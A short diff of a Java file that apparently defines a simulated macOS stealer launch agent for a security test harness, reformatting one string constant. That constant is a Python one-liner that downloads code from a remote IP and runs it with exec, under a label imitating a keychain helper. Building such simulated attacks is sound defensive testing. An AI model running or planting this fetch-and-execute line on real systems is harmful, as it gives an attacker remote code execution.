@@ -5,7 +5,8 @@ import java.util.List;
 /// A launch agent that a script writes, as most stealers for macOS do.
 final class LaunchAgent {
     private static final String LABEL = "com.example.keychain.helper";
-    private static final String CODE = "import urllib.request as u;exec(u.urlopen('http://203.0.113.66/a').read())";
+    private static final String CODE =
+            "import urllib.request as u;exec(u.urlopen('http://203.0.113.66/a').read())";
 
     static final SimulatedTest TEST =
             SimulatedTest.attack(
